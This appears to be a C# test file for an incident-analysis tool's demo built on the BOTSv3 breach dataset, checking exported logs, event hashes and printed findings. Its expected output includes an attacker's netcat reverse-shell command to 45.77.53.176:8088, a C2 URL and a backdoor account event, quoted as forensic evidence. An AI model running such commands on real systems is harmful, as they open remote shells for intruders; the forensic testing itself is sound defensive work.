using System.IO.Compression;
using Weir.Botsv3;

namespace Weir.Cli.Tests.Commands;

/// <summary>The example: its exports are what the generator makes, and the demo prints the facts.</summary>
public sealed class DemoTests : IDisposable
{
    private static readonly string Example = System.IO.Path.Combine(ReadmeTests.Root, "examples", "botsv3");

    private readonly Bench bench = new();

    public void Dispose() => bench.Dispose();

    [Fact]
    public void Exports_AreWhatTheGeneratorMakes()
    {
        foreach (Export export in Incident.All(System.IO.Path.Combine(Example, "quoted")))
        {
            string path = System.IO.Path.Combine(Example, "data", export.Name);
            byte[] kept = File.Exists(path) ? File.ReadAllBytes(path) : Unpacked(path + ".gz");
            Assert.True(kept.AsSpan().SequenceEqual(export.Render()), $"{export.Name} is not what the generator makes: dotnet run --project examples/botsv3");
        }
    }

    [Fact]
    public async Task Quoted_Events_AreByteForByteWhatWasPublished()
    {
        await DemoAsync();
        foreach (string file in (string[])["sysmon_eid1_FYODOR-L_rec34593_empire.xml", "powershell_4100_FYODOR-L.txt", "winsec_4720_FYODOR-L_svcvnc.txt", "winsec_4732_FYODOR-L_administrators.txt", "stream_http_logos_png_3333.json", "osquery_proc_events_hoth_useradd.json", "o365_New-MailboxSearch.json"])
        {
            string text = (await File.ReadAllTextAsync(System.IO.Path.Combine(Example, "quoted", file))).TrimEnd('\n');
            string raw = string.Join(" UNION ALL ", new[] { "sysmon", "wineventlog", "stream_http", "osquery", "audit" }.Select(t => $"SELECT _raw, provenance FROM {t}"));
            string hash = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(text)));
            Assert.Equal("quoted", await bench.AskAsync($"SELECT provenance FROM ({raw}) WHERE sha256(_raw) = '{hash}'"));
        }

        Assert.Equal("7", await bench.AskAsync(string.Join(" + ", new[] { "signin", "messagetrace", "audit", "sysmon", "wineventlog", "stream_http", "osquery" }.Select(t => $"(SELECT count(*) FROM {t} WHERE provenance = 'quoted')")).Insert(0, "SELECT ")));
    }

    [Fact]
    public async Task Demo_PrintsTheFacts()
    {
        Run run = await DemoAsync();
        string[] lines = [.. run.Out.Split('\n').Select(l => string.Join(' ', l.Split(' ', StringSplitOptions.RemoveEmptyEntries)))];
        foreach (string fact in (string[])
        [
            "Quarantined 187442 6 bgist@froth.ly 104.207.83.63 2018-08-20T09:41:07Z 2018-08-20T09:41:07Z",
            "Delivered 11873 6 bgist@froth.ly 104.207.83.63 2018-08-20T09:58:52Z 2018-08-20T09:58:52Z",
            "2018-08-20T09:57:17Z audit bgist@froth.ly 104.207.83.63 FileUploaded stout.png 1:58",
            "2018-08-20T11:56:21Z audit fyodor@froth.ly 199.66.91.253 FileDownloaded archive.tar 1:38",
            "url https://45.77.53.176:443 public 2 base64>utf16le>base64>utf16le sysmon._raw, wineventlog._raw 6:4647",
            "_raw base64@1900+5312>utf16le@0+3984>base64@1723+64>utf16le@0+48 (24 bytes)",
            "→ url https://45.77.53.176:443",
            "sysmon._raw FYODOR-L 3849 0 2018-08-20T10:47:30Z 2018-08-20T16:08:10Z ∅",
            "sysmon._raw ABUNGST-L 1070 0 2018-08-20T11:58:00Z 2018-08-20T13:27:05Z ∅",
            "2018-08-20T11:13:56Z 192.168.8.103 /bin/sh 0</tmp/backpipe | nc 45.77.53.176 8088 1>/tmp/backpipe",
            "| 2018-08-20T11:34:49Z | hoth | /bin/nc.traditional | \"nc\" \"45.77.53.176\" \"8088\" |",
            "ABUNGST-L XmlWinEventLog:Microsoft-Windows-Sysmon/Operational 1082 2018-08-20T08:00:00Z 2018-08-20T13:27:05Z",
            "$ weir sql \"SELECT time, user, parent_process, directory FROM processes WHERE process LIKE '%tar.exe'\" --case " + bench.Case,
            "of 6,432 events 7 are quoted, 6,425 are reconstructed",
        ])
            Assert.Contains(fact, lines);
        Assert.Single(lines, l => l.Contains(" New-TransportRule ", StringComparison.Ordinal)); // once, though it stands under two sourcetypes
        Assert.True(File.Exists(bench.File("case-timeline.svg")));
        Assert.Equal("3850|2", await bench.AskAsync("SELECT count(DISTINCT row_key) FROM (SELECT source_id || ':' || row_id AS row_key FROM sysmon WHERE host = 'FYODOR-L' AND contains(_raw, '45.77.53.176') UNION ALL SELECT source_id || ':' || row_id FROM stream_http WHERE host = 'FYODOR-L' AND contains(_raw, '45.77.53.176')) UNION ALL SELECT count(*) FROM weir.ioc_hits WHERE layers IS NOT NULL AND type = 'url'"));
        Assert.Equal("84", await bench.AskAsync("SELECT count(*) FROM messagetrace WHERE orig_recipient = 'hyunki1984@naver.com'"));
        Assert.Equal("30", await bench.AskAsync("SELECT count(DISTINCT host) FROM (SELECT host FROM sysmon UNION SELECT host FROM wineventlog UNION SELECT host FROM osquery UNION SELECT host FROM stream_http)"));
        Assert.Equal("2018-08-20T11:43:14.7994359Z", await bench.AskAsync("SELECT created_date_time_text FROM signin WHERE failure_reason LIKE '%expired%'"));
        Run again = await DemoAsync();
        Assert.Contains("already landed", again.Error, StringComparison.Ordinal);
        Assert.Equal(run.Out, again.Out);
        await bench.VerifiedAsync();
    }

    private async Task<Run> DemoAsync() => (await Run.ChildAsync(["demo", "--case", bench.Case], ("COLUMNS", "250"))).Clean();

    private static byte[] Unpacked(string path)
    {
        using FileStream file = File.OpenRead(path);
        using var gzip = new GZipStream(file, CompressionMode.Decompress);
        using var bytes = new MemoryStream();
        gzip.CopyTo(bytes);
        return bytes.ToArray();
    }
}
